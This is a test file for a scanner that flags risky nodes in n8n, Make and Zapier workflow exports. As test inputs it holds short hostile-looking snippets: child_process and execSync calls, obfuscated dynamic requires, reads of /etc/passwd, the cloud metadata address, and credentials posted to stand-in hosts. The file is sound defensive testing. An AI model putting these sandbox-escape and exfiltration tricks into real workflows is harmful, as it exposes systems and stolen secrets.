import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  MAX_SCANNED_PER_NODE,
  SAFETY_RULE_CODES,
  SAFETY_SEVERITIES,
  checkExport,
  checkSafety,
  highestSeverity,
  parseWorkflowExport,
  type SafetyFinding,
} from '../src/index.ts';
import { VARIANT_PATTERNS, plantRiskyVariants } from '../src/safety-variants.ts';
import { fixture, fixtureFiles, n8nNode } from './helpers.ts';

const n8n = (...nodes: Record<string, unknown>[]) => JSON.stringify({ nodes, connections: {} });
const codeNode = (jsCode: string, extra: Record<string, unknown> = {}) =>
  n8n(n8nNode('Run code', 'n8n-nodes-base.code', { typeVersion: 2, parameters: { jsCode, ...extra } }));
const httpNode = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  n8n(n8nNode('Call', 'n8n-nodes-base.httpRequest', { typeVersion: 4.2, parameters, ...extra }));
const make = (...modules: Record<string, unknown>[]) =>
  JSON.stringify({ name: 'Scenario', flow: modules, metadata: { version: 1 } });
const zapier = (...steps: Record<string, unknown>[]) =>
  JSON.stringify({
    metadata: { version: 2 },
    zaps: [
      {
        id: 1,
        title: 'Z',
        nodes: Object.fromEntries(
          steps.map((step, i) => [i + 1, { id: i + 1, parent_id: i === 0 ? null : i, ...step }]),
        ),
      },
    ],
  });

const brief = (findings: SafetyFinding[]) =>
  findings.map((f) => `${f.code}:${f.severity}${f.detail !== undefined ? `:${f.detail}` : ''}`);
const codes = (findings: SafetyFinding[]) => findings.map((f) => f.code);

describe('checkSafety: n8n node types', () => {
  it.each([
    ['n8n-nodes-base.executeCommand', 'execute_command:high'],
    ['n8n-nodes-base.ssh', 'ssh:medium'],
    ['n8n-nodes-base.ftp', 'ftp:low'],
    ['n8n-nodes-base.readWriteFile', 'file_system:medium'],
    ['n8n-nodes-base.readBinaryFile', 'file_system:medium'],
    ['n8n-nodes-base.writeBinaryFile', 'file_system:medium'],
    ['n8n-nodes-base.localFileTrigger', 'file_system:medium'],
    ['n8n-nodes-base.executeCommandTool', 'execute_command:high'],
    ['n8n-nodes-base.sshTool', 'ssh:medium'],
    ['n8n-nodes-base.readWriteFileTool', 'file_system:medium'],
    ['n8n-nodes-base.function', 'code_node:info'],
    ['n8n-nodes-base.functionItem', 'code_node:info'],
  ])('%s → %s', (type, expected) => {
    const findings = checkSafety(n8n(n8nNode('Step', type, { parameters: { command: 'ls' } })));
    expect(brief(findings)).toEqual([expected]);
    expect(findings[0]).toMatchObject({ node: 'Step', node_type: type, public: true });
  });

  it('names the npm package of a community node once, however many nodes use it', () => {
    const findings = checkSafety(
      n8n(
        n8nNode('A', 'n8n-nodes-mcp.mcpClient'),
        n8nNode('B', 'n8n-nodes-mcp.mcpClientTool'),
        n8nNode('C', '@acme/n8n-nodes-acme.thing'),
        n8nNode('D', 'n8n-nodes-base.set'),
        n8nNode('E', '@n8n/n8n-nodes-langchain.agent'),
      ),
    );
    expect(brief(findings)).toEqual([
      'community_package:medium:n8n-nodes-mcp',
      'community_package:medium:@acme/n8n-nodes-acme',
    ]);
  });

  it('flags a webhook or form trigger without authentication, not one with it, nor a disabled one', () => {
    const webhook = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
      checkSafety(n8n(n8nNode('Hook', 'n8n-nodes-base.webhook', { typeVersion: 2, parameters, ...extra })));
    expect(brief(webhook({ path: 'x' }))).toEqual(['webhook_no_auth:medium']);
    expect(brief(webhook({ path: 'x', authentication: 'none' }))).toEqual(['webhook_no_auth:medium']);
    expect(webhook({ path: 'x', authentication: 'headerAuth' })).toEqual([]);
    expect(webhook({ path: 'x' }, { disabled: true })).toEqual([]);
    // Callers limited to an allow-list of IP addresses.
    expect(webhook({ path: 'x', options: { ipWhitelist: '203.0.113.7' } })).toEqual([]);
    expect(brief(webhook({ path: 'x', options: { ipWhitelist: ' ' } }))).toEqual(['webhook_no_auth:medium']);
    const form = (parameters: Record<string, unknown>) =>
      checkSafety(n8n(n8nNode('Form', 'n8n-nodes-base.formTrigger', { typeVersion: 2.2, parameters })));
    expect(brief(form({ formTitle: 'Sign up' }))).toEqual(['form_no_auth:low']);
    expect(form({ formTitle: 'Sign up', authentication: 'basicAuth' })).toEqual([]);
  });
});

describe('checkSafety: code', () => {
  it.each([
    ["const { exec } = require('child_process');", 'code_child_process:high:child_process'],
    ['import { spawn } from "node:child_process";', 'code_child_process:high:child_process'],
    ["const fs = require('fs'); fs.readFileSync('/etc/passwd')", 'code_fs:high:fs'],
    ["const fsp = await import('fs/promises');", 'code_fs:high:fs/promises'],
    ['return eval(items[0].json.src);', 'code_eval:high:eval'],
    ['const f = new Function("a", body);', 'code_eval:high:Function'],
    ["Function('return this')()", 'code_eval:high:Function'],
    ["const vm = require('vm');", 'code_eval:high:vm'],
    ["(function () {}).constructor('return process')()", 'code_eval:high:Function'],
    ["const cp = require('child' + '_process');", 'code_eval:high:dynamic require'],
    ["require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())", 'code_eval:high:dynamic require'],
    ["globalThis['ev' + 'al']($json.src)", 'code_eval:high:computed name'],
    [
      "process.mainModule.constructor._load('child_process').execSync('id')",
      'code_child_process:high:child_process',
    ],
    ["const m = 'child_process'; globalThis[req](m)", 'code_child_process:high:child_process'],
    ["const os = module.constructor._load('fs');", 'code_fs:high:fs'],
    ["const https = require('https');", 'code_network_module:high:https'],
    ["import axios from 'axios';", 'code_network_module:high:axios'],
    ["const WebSocket = require('ws');", 'code_network_module:high:ws'],
    ["const net = require('node:net');", 'code_network_module:high:net'],
    [`const payload = "${'QUJD'.repeat(40)}x9Zk${'a1B2'.repeat(20)}";`, 'code_blob:medium'],
    [`const key = "${'0123456789abcdef'.repeat(9)}";`, 'code_blob:medium'],
    ["await fetch('https://pastebin.com/raw/abc123')", 'http_paste_site:high:pastebin.com'],
    ["await fetch('http://45.33.12.9/beacon')", 'http_ip_literal:medium:45.33.12.9'],
  ])('%s → %s', (code, expected) => {
    const findings = checkSafety(codeNode(code));
    expect(brief(findings)).toContain(expected);
    expect(brief(findings)).toContain('code_node:info');
    // Never the code itself.
    expect(JSON.stringify(findings)).not.toContain(code.slice(0, 20));
  });

  it('reads Python code with Python rules', () => {
    const findings = checkSafety(
      codeNode('', {
        language: 'python',
        pythonCode: 'import subprocess\nimport requests\nexec(src)\nopen("/etc/passwd")',
      }),
    );
    expect(brief(findings)).toEqual([
      'code_child_process:high:subprocess',
      'code_fs:high:fs',
      'code_eval:high:exec',
      'code_network_module:high:requests',
      'code_node:info',
    ]);
  });

  it('leaves ordinary code alone', () => {
    const ordinary = [
      'const out = [];',
      'for (const item of $input.all()) {',
      '  const match = /(\\d+)/.exec(item.json.text); // Function(s) to evaluate later',
      "  out.push({ json: { id: match?.[1], url: 'https://api.example.com/v1/items', when: new Date().toISOString() } });",
      '}',
      "const res = await this.helpers.httpRequest({ url: 'https://api.openai.com/v1/models' });",
      "const lib = require('lodash'); const key = this['name'] + 1; const C = item.constructor;",
      "const img = 'data:image/png;base64," + 'iVBORw0KGgo'.repeat(30) + "';",
      'return out;',
    ].join('\n');
    expect(brief(checkSafety(codeNode(ordinary)))).toEqual(['code_node:info']);
  });

  it('scans at most MAX_SCANNED_PER_NODE characters of a node, in linear time', () => {
    const huge = `${'/* x */ '.repeat(MAX_SCANNED_PER_NODE / 8)}require('child_process')`;
    expect(brief(checkSafety(codeNode(huge)))).toEqual(['code_node:info']);
    // Pathological input for the patterns: long runs that almost match.
    const almost = `${'A'.repeat(500_000)}${'/*'.repeat(100_000)}${'\\x4'.repeat(100_000)}`;
    expect(codes(checkSafety(codeNode(almost)))).toContain('code_node');
  });
});

describe('checkSafety: HTTP requests', () => {
  it.each([
    ['http://45.33.12.9/x', 'http_ip_literal:medium:45.33.12.9'],
    ['http://3232235777/x', 'http_ip_literal:low:192.168.1.1'],
    ['http://0x2d210c09/x', 'http_ip_literal:medium:45.33.12.9'],
    ['http://[2001:db8::1]:8080/x', 'http_ip_literal:medium:[2001:db8::1]'],
    ['http://169.254.169.254/latest/meta-data/', 'http_ip_literal:high:169.254.169.254'],
    ['=https://paste.ee/r/{{ $json.id }}', 'http_paste_site:high:paste.ee'],
    ['https://transfer.sh/upload', 'http_paste_site:high:transfer.sh'],
    ['https://bit.ly/3abc', 'http_url_shortener:medium:bit.ly'],
    ['https://tinyurl.com/y2x', 'http_url_shortener:medium:tinyurl.com'],
    ['https://file.io/', 'http_file_sharing:medium:file.io'],
    ['https://store1.gofile.io/uploadFile', 'http_file_sharing:medium:store1.gofile.io'],
  ])('%s → %s', (url, expected) => {
    expect(brief(checkSafety(httpNode({ url })))).toContain(expected);
  });

  it('does not guess the host of an expression', () => {
    for (const url of ['={{ $json.url }}', '=https://{{ $json.host }}/x', '=http://{{$json.ip}}:8080/'])
      expect(brief(checkSafety(httpNode({ url })))).toEqual(['http_request:info']);
    expect(brief(checkSafety(httpNode({ url: 'https://api.todoist.com/rest/v2/tasks' })))).toEqual([
      'http_request:info:api.todoist.com',
    ]);
  });

  it("flags a predefined credential sent outside its service's domain", () => {
    const withCredential = (url: string, nodeCredentialType: string) =>
      brief(checkSafety(httpNode({ url, authentication: 'predefinedCredentialType', nodeCredentialType })));
    expect(withCredential('https://slack.com/api/chat.postMessage', 'slackApi')).toEqual([
      'http_request:info:slack.com',
    ]);
    expect(withCredential('https://evil.example.net/collect', 'slackApi')).toContain(
      'credential_foreign_host:high:evil.example.net',
    );
    // A host that only names the service is not the service's.
    expect(withCredential('https://slack-api.example.net/collect', 'slackApi')).toContain(
      'credential_foreign_host:high:slack-api.example.net',
    );
    // An unlisted service sent to another listed service's domain.
    expect(withCredential('https://api.openai.com/v1/files', 'acmeCrmApi')).toContain(
      'credential_foreign_host:high:api.openai.com',
    );
    expect(withCredential('https://api.hubapi.com/crm/v3/objects', 'hubspotAppToken')).not.toContain(
      'credential_foreign_host:high:api.hubapi.com',
    );
    // A service people host themselves: its address cannot be known, so no alarm.
    expect(withCredential('https://blog.example.com/wp-json/wp/v2/posts', 'wordpressApi')).toEqual([
      'http_request:info:blog.example.com',
    ]);
    // …unless the address is one the other rules call risky.
    expect(withCredential('https://pastebin.com/api/api_post.php', 'wordpressApi')).toContain(
      'credential_foreign_host:high:pastebin.com',
    );
  });

  it('flags $credentials expressions sent to a named host', () => {
    const findings = checkSafety(
      httpNode({
        url: 'https://collect.example.org/in',
        sendBody: true,
        bodyParameters: { parameters: [{ name: 'k', value: '={{ $credentials.apiKey }}' }] },
      }),
    );
    expect(brief(findings)).toContain('credential_foreign_host:high:collect.example.org');
    // Named after the service it is sent to: its own host.
    const own = checkSafety(
      httpNode({
        url: 'https://serpapi.com/search',
        sendQuery: true,
        queryParameters: { parameters: [{ name: 'api_key', value: '={{ $credentials.SerpAPI.key }}' }] },
      }),
    );
    expect(brief(own)).toEqual(['http_request:info:serpapi.com']);
  });
});

describe('checkSafety: Make and Zapier', () => {
  it('reads Make code, HTTP and webhook modules', () => {
    const findings = checkSafety(
      make(
        { id: 1, module: 'gateway:CustomWebHook', parameters: { hook: 1 }, mapper: {} },
        { id: 2, module: 'code:ExecuteCode', mapper: { code: "const cp = require('child_process');" } },
        {
          id: 5,
          module: 'code:ExecuteCode',
          mapper: { language: 'python', codeEditorPython: 'import requests\nresult = requests.get(url)' },
        },
        { id: 3, module: 'http:ActionSendData', mapper: { url: 'https://pastebin.com/api', method: 'post' } },
        { id: 4, module: 'http:ActionSendData', mapper: { url: '{{1.url}}', method: 'get' } },
      ),
    );
    expect(brief(findings)).toEqual([
      'code_child_process:high:child_process',
      'code_network_module:high:requests',
      'http_paste_site:high:pastebin.com',
      'webhook_no_auth:low:secret-url',
      'code_node:info',
      'code_node:info',
      'http_request:info:pastebin.com',
      'http_request:info',
    ]);
    expect(findings.find((f) => f.code === 'code_node')).toMatchObject({ node_type: 'code:ExecuteCode' });
  });

  it('reads Code by Zapier and Webhooks by Zapier steps', () => {
    const findings = checkSafety(
      zapier(
        { selected_api: 'WebHookAPI', action: 'hook', type_of: 'read', params: {} },
        { selected_api: 'CodeAPI', action: 'run_javascript', params: { code: 'return eval(inputData.x)' } },
        { selected_api: 'CodeAPI', action: 'run_python', params: { code: 'import socket\n' } },
        { selected_api: 'WebHookAPI', action: 'post', type_of: 'write', params: { url: 'http://8.8.4.4/p' } },
      ),
    );
    expect(brief(findings)).toEqual([
      'code_eval:high:eval',
      'code_network_module:high:socket',
      'http_ip_literal:medium:8.8.4.4',
      'webhook_no_auth:low:secret-url',
      'code_node:info',
      'code_node:info',
      'http_request:info:8.8.4.4',
    ]);
  });
});

describe('checkSafety: Zapier exports as zapier.com writes them today', () => {
  it('reads CodeCLIAPI steps named by an id, telling Python from the code, and WebHookCLIAPI hooks', () => {
    const findings = checkSafety(
      zapier(
        { selected_api: 'WebHookCLIAPI@1.1.1', action: 'hook_v2', type_of: 'read', params: {} },
        {
          selected_api: 'CodeCLIAPI@1.0.1',
          action: '01929fad-d3dd-62c2-52ed-7868d5fcc691',
          type_of: 'write',
          params: { code: 'import subprocess\noutput = {"o": subprocess.check_output(["id"])}' },
        },
        {
          selected_api: 'CodeCLIAPI@1.0.1',
          action: '01929fad-d3dd-62c2-52ed-7868d5fcc691',
          type_of: 'write',
          params: { code: 'const w = window.open("x"); output = [{ open: true }];' },
        },
      ),
    );
    expect(brief(findings)).toEqual([
      'code_child_process:high:subprocess',
      'webhook_no_auth:low:secret-url',
      'code_node:info',
      'code_node:info',
    ]);
  });

  it("checks an app's API request step against the app's own domain", () => {
    const rawRequest = (url: string) =>
      brief(
        checkSafety(
          zapier(
            { selected_api: 'ShopifyCLIAPI@6.1.1', action: 'new_order_hook_v2', type_of: 'read', params: {} },
            {
              selected_api: 'ShopifyCLIAPI@6.1.1',
              action: '_zap_raw_request',
              type_of: 'write',
              params: { method: 'GET', url },
            },
          ),
        ),
      );
    expect(rawRequest('https://my-shop.myshopify.com/admin/api/2024-10/orders/{{1__id}}.json')).toEqual([
      'http_request:info:my-shop.myshopify.com',
    ]);
    expect(rawRequest('https://collect.example.net/orders')).toEqual([
      'credential_foreign_host:high:collect.example.net',
      'http_request:info:collect.example.net',
    ]);
  });
});

describe('checkSafety: secrets', () => {
  it('reports each secret as high, with its kind and never its value', () => {
    const findings = checkSafety(fixture('synthetic/handmade--n8n-with-leaked-secrets.json'));
    expect(brief(findings.filter((f) => f.code === 'secret'))).toEqual([
      'secret:high:openai-api-key',
      'secret:high:aws-access-key-id',
      'secret:high:secret-field',
      'secret:high:telegram-bot-token',
    ]);
    expect(JSON.stringify(findings)).not.toContain('wJalrXUtnFEMI');
  });

  it('checkExport checks the redacted text and says once that secrets were removed', () => {
    const result = checkExport(fixture('synthetic/handmade--n8n-with-leaked-secrets.json'), { redact: true });
    if (!result.ok) throw new Error('expected the redacted upload to pass');
    expect(codes(result.safety)).not.toContain('secret');
    expect(result.safety.filter((f) => f.code === 'secret_removed')).toEqual([
      {
        code: 'secret_removed',
        severity: 'info',
        detail: 'aws-access-key-id, openai-api-key, secret-field, telegram-bot-token',
        public: true,
      },
    ]);
    expect(result.setup.difficulty).toMatch(/^(beginner|intermediate|advanced)$/);
  });
});

describe('checkSafety: the clean fixtures', () => {
  const files = [...fixtureFiles('n8n'), ...fixtureFiles('make'), ...fixtureFiles('zapier')];
  it.each(files)('%s has no high finding', (file) => {
    const findings = checkSafety(fixture(file));
    expect(findings.filter((f) => f.severity === 'high')).toEqual([]);
    expect(highestSeverity(findings) === 'high').toBe(false);
  });

  it('takes a parse result as well as text, and nothing from a file that is not a workflow', () => {
    const text = fixture('n8n/Zie619--workflows__Webhook__1897_Webhook_Filter_Sync_Webhook.json');
    expect(checkSafety(parseWorkflowExport(text))).toEqual(checkSafety(text));
    expect(checkSafety('{"hello": 1}')).toEqual([]);
    expect(checkSafety('not json')).toEqual([]);
  });
});

describe('checkSafety on planted risky variants of the clean fixtures', () => {
  const clean = [...fixtureFiles('n8n'), ...fixtureFiles('make'), ...fixtureFiles('zapier')].map((name) => ({
    name,
    text: fixture(name),
  }));
  const variants = plantRiskyVariants(clean, VARIANT_PATTERNS.length * 4);

  it('plants every pattern, on every platform', () => {
    expect(new Set(variants.map((v) => v.pattern))).toEqual(new Set(VARIANT_PATTERNS.map((p) => p.id)));
    expect(new Set(variants.map((v) => v.platform))).toEqual(new Set(['n8n', 'make', 'zapier']));
  });

  it.each(variants.map((v) => [v.name, v] as const))('%s: the planted finding is reported', (_, variant) => {
    const findings = checkSafety(variant.text);
    const { code, node, detail } = variant.planted;
    expect(
      findings.filter((f) => f.code === code && f.node === node).map((f) => f.detail),
      JSON.stringify(variant.planted),
    ).toContain(detail);
    // The rest of the file is as clean as it was: nothing high besides what was planted in the node.
    expect(findings.filter((f) => f.severity === 'high' && f.node !== node)).toEqual([]);
  });
});

describe('the secret scan in prose', () => {
  it('"Basic" followed by a word is not a secret; followed by base64 it is', () => {
    const note = (content: string) =>
      n8n(n8nNode('Note', 'n8n-nodes-base.stickyNote', { parameters: { content } }));
    expect(checkSafety(note('Needs a Basic understanding of APIs and Basic Authentication.'))).toEqual([]);
    expect(brief(checkSafety(note('Header: Authorization: Basic dXNlcjpzM2NyZXQtcGFzcw==')))).toEqual([
      'secret:high:basic-auth',
    ]);
  });
});

describe('checkSafety on any value in any field', () => {
  /** Every path to a value inside a document. */
  const pathsOf = (value: unknown, prefix: (string | number)[] = [], into: (string | number)[][] = []) => {
    into.push(prefix);
    if (Array.isArray(value)) value.forEach((item, i) => pathsOf(item, [...prefix, i], into));
    else if (value && typeof value === 'object')
      for (const [key, child] of Object.entries(value)) pathsOf(child, [...prefix, key], into);
    return into;
  };
  const risky = plantRiskyVariants(
    [...fixtureFiles('n8n'), ...fixtureFiles('make'), ...fixtureFiles('zapier')]
      .map((name) => ({ name, text: fixture(name) }))
      .filter(({ text }) => text.length < 40_000),
    VARIANT_PATTERNS.length,
  ).map((variant) => JSON.parse(variant.text) as unknown);

  it('cuts a made-up package name or host to 253 characters', () => {
    const findings = checkSafety(n8n(n8nNode('A', `n8n-nodes-${'x'.repeat(1000)}.y`)));
    expect(findings[0]!.detail).toHaveLength(253);
  });

  it('never throws and answers findings of the contract', () => {
    fc.assert(
      fc.property(
        fc.nat({ max: risky.length - 1 }),
        fc.nat(),
        fc.oneof(fc.jsonValue(), fc.string({ maxLength: 300 }), fc.constant({ url: 'http://[::1' })),
        (which, where, replacement) => {
          const doc = structuredClone(risky[which]) as Record<string | number, unknown>;
          const paths = pathsOf(doc).filter((path) => path.length > 0);
          const path = paths[where % paths.length]!;
          let holder = doc;
          for (const key of path.slice(0, -1)) holder = holder[key] as Record<string | number, unknown>;
          holder[path.at(-1)!] = replacement;
          const findings = checkSafety(JSON.stringify(doc));
          for (const finding of findings) {
            expect(SAFETY_RULE_CODES).toContain(finding.code);
            expect(SAFETY_SEVERITIES).toContain(finding.severity);
            expect(typeof finding.public).toBe('boolean');
            if (finding.detail !== undefined) expect(finding.detail.length).toBeLessThanOrEqual(253);
          }
        },
      ),
      { seed: 20261128, numRuns: 400 },
    );
  });
});
